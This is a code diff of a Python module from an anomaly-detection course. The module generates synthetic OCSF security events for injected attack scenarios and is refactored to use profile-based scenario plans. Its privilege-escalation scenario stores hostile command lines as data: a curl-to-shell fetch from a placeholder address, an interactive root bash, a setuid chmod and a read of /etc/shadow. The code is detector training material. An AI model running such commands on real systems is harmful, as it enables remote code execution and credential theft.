@@ -3,7 +3,8 @@
 Chapter "The OCSF pipeline" (through :mod:`tabresnet_course.ocsf.generator`). A scenario builder draws
 normal events of its class with :mod:`tabresnet_course.ocsf.classes` and overwrites the
 attributes the attack changes; events of one campaign share an attacker, a victim and a time
-window. Labels never go inside the events: the generator keeps them in a separate table.
+window, whose sizes and lengths come from the profile's scenario plan
+(:class:`~tabresnet_course.ocsf.profiles.ScenarioPlan`). Labels never go inside the events: the generator keeps them in a separate table.
 """
 
 from __future__ import annotations
@@ -20,18 +21,26 @@ from tabresnet_course.ocsf.classes import (
     build_network,
     build_process,
 )
+from tabresnet_course.ocsf.profiles import DEFAULT_PROFILE, GeneratorProfile, ScenarioPlan, get_profile
 from tabresnet_course.ocsf.schema import AUTH_PROTOCOL_NAMES, LOGON_TYPE_NAMES, captions
 from tabresnet_course.ocsf.world import (
     ATTACKER_COUNTRIES,
-    HTTP_SERVICES,
     MS_PER_DAY,
     MS_PER_HOUR,
-    SERVERS,
     Block,
+    World,
     constant,
     lognormal_int,
     pick,
 )
+
+__all__ = [
+    "CHANGED_FEATURES",
+    "SCENARIOS",
+    "SCENARIO_BUILDERS",
+    "ScenarioBlocks",
+    "scenario_counts",
+]
 
 SCENARIOS: tuple[str, ...] = (
     "data_exfiltration",
@@ -44,17 +53,9 @@ SCENARIOS: tuple[str, ...] = (
 )
 """Injected anomaly scenarios, roughly from easy to hard for a kNN detector."""
 
-# Share of the evaluation period's events per scenario, the smallest count, and the campaign
-# size (events of one campaign share an attacker, a victim and a time window).
-_SCENARIO_PLAN: dict[str, tuple[float, int, int]] = {
-    "data_exfiltration": (0.0008, 4, 8),
-    "port_scan": (0.005, 20, 250),
-    "latency_error_storm": (0.004, 15, 200),
-    "brute_force": (0.004, 15, 60),
-    "privilege_escalation": (0.0006, 6, 6),
-    "off_hours_new_country": (0.002, 10, 10),
-    "latency_drift": (0.004, 15, 10**9),
-}
+ScenarioBlocks = list[tuple[int, Block, np.ndarray]]
+"""What a scenario builder returns: ``(class_uid, block, campaign)`` triples, where ``campaign``
+holds the (0-based) campaign of each event of the block."""
 
 # Service name of well-known ports (a port scan's connections are labelled with them).
 _WELL_KNOWN_SERVICES = {
@@ -97,25 +98,33 @@ _RECON_OPERATIONS = (
 
 
 # --------------------------------------------------------------------------------------------
-# Injected scenarios: each returns [(class_uid, block)] with exactly `count` events in total
+# Injected scenarios: each returns ScenarioBlocks with exactly `count` events in total
 # --------------------------------------------------------------------------------------------
 
 
+def _plan(world: World, name: str) -> ScenarioPlan:
+    """The plan of scenario ``name`` in the world's profile."""
+    return world.profile.scenario_plan[name]
+
+
 def _campaign_starts(
-    rng: np.random.Generator, count: int, size: int, start_ms: int, days: int, margin_ms: int = 2 * MS_PER_HOUR
+    rng: np.random.Generator, count: int, plan: ScenarioPlan, start_ms: int, days: int
 ) -> tuple[np.ndarray, np.ndarray]:
-    """Campaign index of each of ``count`` events and a start time per campaign."""
-    campaign = np.arange(count) // size
+    """Campaign index of each of ``count`` events and a start time per campaign (early enough
+    for the campaign's window to end inside the period)."""
+    campaign = np.arange(count) // plan.campaign_size
+    margin_ms = max(2 * MS_PER_HOUR, plan.window_ms[1])
     starts = start_ms + rng.integers(0, max(days * MS_PER_DAY - margin_ms, 1), size=int(campaign.max()) + 1)
     return campaign, starts
 
 
-def _exfiltration(rng, world, count, start_ms, days) -> list[tuple[int, Block]]:
+def _exfiltration(rng, world, count, start_ms, days) -> ScenarioBlocks:
     """Huge uploads at night from one workstation to a rare external address."""
+    plan = _plan(world, "data_exfiltration")
     block = build_network(rng, world, count, start_ms, days)
-    campaign, _ = _campaign_starts(rng, count, _SCENARIO_PLAN["data_exfiltration"][2], start_ms, days)
+    campaign, _ = _campaign_starts(rng, count, plan, start_ms, days)
     n_campaigns = int(campaign.max()) + 1
-    victims = rng.choice(world.num_users, size=n_campaigns, replace=False)
+    victims = rng.choice(world.num_users, size=n_campaigns, replace=n_campaigns > world.num_users)
     day = rng.integers(0, days, size=n_campaigns)
     night = (world.work_start_utc[victims] + world.work_hours[victims] + rng.uniform(3, 6, n_campaigns)) % 24
     t0 = start_ms + day * MS_PER_DAY + (night * MS_PER_HOUR).astype(np.int64)
@@ -123,7 +132,7 @@ def _exfiltration(rng, world, count, start_ms, days) -> list[tuple[int, Block]]:
     user = victims[campaign]
     block.update(
         {
-            "time": t0[campaign] + rng.integers(0, 2 * MS_PER_HOUR, size=count),
+            "time": t0[campaign] + rng.integers(*plan.window_ms, size=count),
             "activity_id": rng.choice((6, 2), size=count),
             "status_id": np.ones(count, dtype=np.int64),
             "severity_id": np.ones(count, dtype=np.int64),
@@ -141,22 +150,24 @@ def _exfiltration(rng, world, count, start_ms, days) -> list[tuple[int, Block]]:
     )
     block["traffic.packets_out"] = block["traffic.bytes_out"] // 1200 + 1
     block["traffic.packets_in"] = block["traffic.bytes_in"] // 1200 + 1
-    return [(4001, block)]
+    return [(4001, block, campaign)]
 
 
-def _port_scan(rng, world, count, start_ms, days) -> list[tuple[int, Block]]:
-    """Hundreds of refused or reset connections from one host to many ports of one server."""
+def _port_scan(rng, world, count, start_ms, days) -> ScenarioBlocks:
+    """Many refused or reset connections from one host to many ports of one server."""
+    plan = _plan(world, "port_scan")
+    servers = world.profile.servers
     block = build_network(rng, world, count, start_ms, days)
-    campaign, t0 = _campaign_starts(rng, count, _SCENARIO_PLAN["port_scan"][2], start_ms, days)
+    campaign, t0 = _campaign_starts(rng, count, plan, start_ms, days)
     n_campaigns = len(t0)
     scanners = rng.choice(world.num_users, size=n_campaigns)
-    targets = pick(tuple(SERVERS.values()), rng.integers(0, len(SERVERS), size=n_campaigns))
+    targets = pick(tuple(servers.values()), rng.integers(0, len(servers), size=n_campaigns))
     ports = np.concatenate([rng.permutation(np.arange(1, 1025)) for _ in range(n_campaigns)])[:count]
     ports = np.where(rng.random(count) < 0.15, rng.integers(1025, 65536, size=count), ports)
     activity = rng.choice((5, 3, 1), size=count, p=(0.7, 0.25, 0.05))
     block.update(
         {
-            "time": t0[campaign] + rng.integers(0, 5 * 60_000, size=count),
+            "time": t0[campaign] + rng.integers(*plan.window_ms, size=count),
             "activity_id": activity,
             "status_id": np.where(activity == 5, 2, 1),
             "severity_id": np.where(activity == 5, 2, 1),
@@ -176,31 +187,34 @@ def _port_scan(rng, world, count, start_ms, days) -> list[tuple[int, Block]]:
             "traffic.packets_in": rng.integers(0, 2, size=count),
         }
     )
-    return [(4001, block)]
+    return [(4001, block, campaign)]
 
 
-def _latency_storm(rng, world, count, start_ms, days) -> list[tuple[int, Block]]:
-    """Half an hour of 503/504 answers with seconds of latency from the orders service."""
-    service = [s[0] for s in HTTP_SERVICES].index("orders-api")
+def _latency_storm(rng, world, count, start_ms, days) -> ScenarioBlocks:
+    """A window of 503/504 answers with seconds of latency from the profile's storm service."""
+    plan = _plan(world, "latency_error_storm")
+    service = [s.name for s in world.profile.http_services].index(world.profile.storm_service)
     block = build_http(rng, world, count, start_ms, days, service=service)
-    campaign, t0 = _campaign_starts(rng, count, _SCENARIO_PLAN["latency_error_storm"][2], start_ms, days)
+    campaign, t0 = _campaign_starts(rng, count, plan, start_ms, days)
     code = rng.choice((503, 504, 500), size=count, p=(0.6, 0.3, 0.1))
     block.update(
         {
-            "time": t0[campaign] + rng.integers(0, 30 * 60_000, size=count),
+            "time": t0[campaign] + rng.integers(*plan.window_ms, size=count),
             "status_id": np.full(count, 2),
             "severity_id": np.full(count, 3),
             "http_response.code": code,
             "http_response.latency": rng.integers(2_000, 30_000, size=count),
         }
     )
-    return [(4002, block)]
+    return [(4002, block, campaign)]
 
 
-def _brute_force(rng, world, count, start_ms, days) -> list[tuple[int, Block]]:
-    """Bursts of failed network logons against many accounts from one external address."""
+def _brute_force(rng, world, count, start_ms, days) -> ScenarioBlocks:
+    """Runs of failed network logons against many accounts from one external address."""
+    plan = _plan(world, "brute_force")
+    sso = world.profile.servers["sso"]
     block = build_authentication(rng, world, count, start_ms, days)
-    campaign, t0 = _campaign_starts(rng, count, _SCENARIO_PLAN["brute_force"][2], start_ms, days)
+    campaign, t0 = _campaign_starts(rng, count, plan, start_ms, days)
     n_campaigns = len(t0)
     attacker_ip = np.array([f"192.0.2.{x}" for x in rng.integers(1, 250, size=n_campaigns)], dtype=object)
     attacker_country = pick(ATTACKER_COUNTRIES, rng.integers(0, len(ATTACKER_COUNTRIES), size=n_campaigns))
@@ -213,7 +227,7 @@ def _brute_force(rng, world, count, start_ms, days) -> list[tuple[int, Block]]:
     protocol = rng.choice((11, 1), size=count)
     block.update(
         {
-            "time": t0[campaign] + rng.integers(0, 10 * 60_000, size=count),
+            "time": t0[campaign] + rng.integers(*plan.window_ms, size=count),
             "activity_id": np.ones(count, dtype=np.int64),
             "status_id": np.full(count, 2),
             "severity_id": np.full(count, 2),
@@ -222,7 +236,7 @@ def _brute_force(rng, world, count, start_ms, days) -> list[tuple[int, Block]]:
             "src_endpoint.ip": attacker_ip[campaign],
             "src_endpoint.location.country": attacker_country[campaign],
             "dst_endpoint.hostname": constant("sso", count),
-            "dst_endpoint.ip": constant(SERVERS["sso"], count),
+            "dst_endpoint.ip": constant(sso, count),
             "dst_endpoint.svc_name": constant("sso", count),
             "auth_protocol_id": protocol,
             "auth_protocol": captions(AUTH_PROTOCOL_NAMES, protocol),
@@ -232,10 +246,10 @@ def _brute_force(rng, world, count, start_ms, days) -> list[tuple[int, Block]]:
             "is_remote": np.ones(count, dtype=bool),
         }
     )
-    return [(3002, block)]
+    return [(3002, block, campaign)]
 
 
-def _privilege_escalation(rng, world, count, start_ms, days) -> list[tuple[int, Block]]:
+def _privilege_escalation(rng, world, count, start_ms, days) -> ScenarioBlocks:
     """The web server spawns a shell that fetches a script, calls setuid root and reads /etc/shadow."""
     chain = (  # parent, name, cmd_line, process user, actor, activity
         ("nginx", "sh", "sh -c curl -s http://203.0.113.66/x.sh | sh", "www-data", "www-data", 1),
@@ -244,13 +258,13 @@ def _privilege_escalation(rng, world, count, start_ms, days) -> list[tuple[int, 
         ("python3", "bash", "/bin/bash -i", "root", "www-data", 5),
         ("bash", "chmod", "chmod u+s /tmp/.x", "root", "root", 1),
     )
-    size = _SCENARIO_PLAN["privilege_escalation"][2]
-    step = np.arange(count) % size
+    plan = _plan(world, "privilege_escalation")
+    step = np.arange(count) % plan.campaign_size
     is_process = step < len(chain)
-    campaign, t0 = _campaign_starts(rng, count, size, start_ms, days)
+    campaign, t0 = _campaign_starts(rng, count, plan, start_ms, days)
     host = pick(("web01", "web02"), rng.integers(0, 2, size=len(t0)))[campaign]
-    times = t0[campaign] + step * rng.integers(2_000, 40_000, size=count)
-    out: list[tuple[int, Block]] = []
+    times = t0[campaign] + step * rng.integers(*plan.window_ms, size=count)
+    out: ScenarioBlocks = []
     p = np.flatnonzero(is_process)
     if len(p):
         parent, name, cmd, user, actor, activity = (np.array(c, dtype=object) for c in zip(*chain))
@@ -268,7 +282,7 @@ def _privilege_escalation(rng, world, count, start_ms, days) -> list[tuple[int, 
                 "process.parent_process.name": parent[s],
             }
         )
-        out.append((1007, block))
+        out.append((1007, block, campaign[p]))
     f = np.flatnonzero(~is_process)
     if len(f):
         block = build_file(rng, world, len(f), start_ms, days)
@@ -283,15 +297,16 @@ def _privilege_escalation(rng, world, count, start_ms, days) -> list[tuple[int, 
                 "file.size": rng.integers(900, 1_600, size=len(f)),
             }
         )
-        out.append((1001, block))
+        out.append((1001, block, campaign[f]))
     return out
 
 
-def _off_hours_logon(rng, world, count, start_ms, days) -> list[tuple[int, Block]]:
+def _off_hours_logon(rng, world, count, start_ms, days) -> ScenarioBlocks:
     """A logon in the user's night from a new country without MFA, then a run of API reads."""
-    size = _SCENARIO_PLAN["off_hours_new_country"][2]
-    campaign = np.arange(count) // size
-    step = np.arange(count) % size
+    plan = _plan(world, "off_hours_new_country")
+    sso = world.profile.servers["sso"]
+    campaign = np.arange(count) // plan.campaign_size
+    step = np.arange(count) % plan.campaign_size
     n_campaigns = int(campaign.max()) + 1
     victims = rng.choice(world.num_users, size=n_campaigns, replace=n_campaigns > world.num_users)
     day = rng.integers(0, days, size=n_campaigns)
@@ -299,8 +314,8 @@ def _off_hours_logon(rng, world, count, start_ms, days) -> list[tuple[int, Block
     t0 = start_ms + day * MS_PER_DAY + (night * MS_PER_HOUR).astype(np.int64)
     ip = np.array([f"203.0.113.{x}" for x in rng.integers(1, 250, size=n_campaigns)], dtype=object)
     country = pick(ATTACKER_COUNTRIES, rng.integers(0, len(ATTACKER_COUNTRIES), size=n_campaigns))
-    times = t0[campaign] + step * rng.integers(60_000, 300_000, size=count)
-    out: list[tuple[int, Block]] = []
+    times = t0[campaign] + step * rng.integers(*plan.window_ms, size=count)
+    out: ScenarioBlocks = []
     a = np.flatnonzero(step == 0)
     block = build_authentication(rng, world, len(a), start_ms, days)
     c = campaign[a]
@@ -314,7 +329,7 @@ def _off_hours_logon(rng, world, count, start_ms, days) -> list[tuple[int, Block
             "src_endpoint.ip": ip[c],
             "src_endpoint.location.country": country[c],
             "dst_endpoint.hostname": constant("sso", len(a)),
-            "dst_endpoint.ip": constant(SERVERS["sso"], len(a)),
+            "dst_endpoint.ip": constant(sso, len(a)),
             "dst_endpoint.svc_name": constant("sso", len(a)),
             "auth_protocol_id": np.full(len(a), 5),
             "auth_protocol": constant("SAML", len(a)),
@@ -324,7 +339,7 @@ def _off_hours_logon(rng, world, count, start_ms, days) -> list[tuple[int, Block
             "is_remote": np.ones(len(a), dtype=bool),
         }
     )
-    out.append((3002, block))
+    out.append((3002, block, c))
     r = np.flatnonzero(step > 0)
     if len(r):
         block = build_api(rng, world, len(r), start_ms, days)
@@ -342,13 +357,14 @@ def _off_hours_logon(rng, world, count, start_ms, days) -> list[tuple[int, Block
                 "api.operation": pick([o[1] for o in _RECON_OPERATIONS], op),
             }
         )
-        out.append((6003, block))
+        out.append((6003, block, c))
     return out
 
 
-def _latency_drift(rng, world, count, start_ms, days) -> list[tuple[int, Block]]:
-    """The search service slowly gets slower (x1.5 to x3) over the second half of the period."""
-    service = [s[0] for s in HTTP_SERVICES].index("search")
+def _latency_drift(rng, world, count, start_ms, days) -> ScenarioBlocks:
+    """The profile's drift service slowly gets slower (x1.5 to x3) over the second half of the
+    period (one campaign)."""
+    service = [s.name for s in world.profile.http_services].index(world.profile.drift_service)
     block = build_http(rng, world, count, start_ms, days, service=service)
     half = start_ms + days * MS_PER_DAY // 2
     end = start_ms + days * MS_PER_DAY
@@ -358,10 +374,10 @@ def _latency_drift(rng, world, count, start_ms, days) -> list[tuple[int, Block]]
     block["http_response.latency"] = np.maximum(
         np.rint(block["http_response.latency"] * (1.5 + 1.5 * progress)), 1
     ).astype(np.int64)
-    return [(4002, block)]
+    return [(4002, block, np.zeros(count, dtype=np.int64))]
 
 
-SCENARIO_BUILDERS: dict[str, Callable[..., list[tuple[int, Block]]]] = {
+SCENARIO_BUILDERS: dict[str, Callable[..., ScenarioBlocks]] = {
     "data_exfiltration": _exfiltration,
     "port_scan": _port_scan,
     "latency_error_storm": _latency_storm,
@@ -370,7 +386,7 @@ SCENARIO_BUILDERS: dict[str, Callable[..., list[tuple[int, Block]]]] = {
     "off_hours_new_country": _off_hours_logon,
     "latency_drift": _latency_drift,
 }
-"""The builder of each scenario: ``(rng, world, count, start_ms, days) -> [(class_uid, Block)]``."""
+"""The builder of each scenario: ``(rng, world, count, start_ms, days) -> ScenarioBlocks``."""
 
 
 CHANGED_FEATURES: dict[str, frozenset[str]] = {
@@ -387,9 +403,11 @@ CHANGED_FEATURES: dict[str, frozenset[str]] = {
 when it names one of them (chapter "Explaining alerts" and ``tests/test_explain.py``)."""
 
 
-def scenario_counts(num_events: int) -> dict[str, int]:
-    """Number of events each scenario injects into an evaluation period of ``num_events``.
+def scenario_counts(num_events: int, profile: str | GeneratorProfile = DEFAULT_PROFILE) -> dict[str, int]:
+    """Number of events each scenario injects into an evaluation period of ``num_events``
+    under ``profile``'s scenario plan.
 
     Chapter "The OCSF pipeline".
     """
-    return {name: max(minimum, int(round(share * num_events))) for name, (share, minimum, _) in _SCENARIO_PLAN.items()}
+    plan = get_profile(profile).scenario_plan
+    return {name: max(p.minimum, int(round(p.share * num_events))) for name, p in plan.items()}
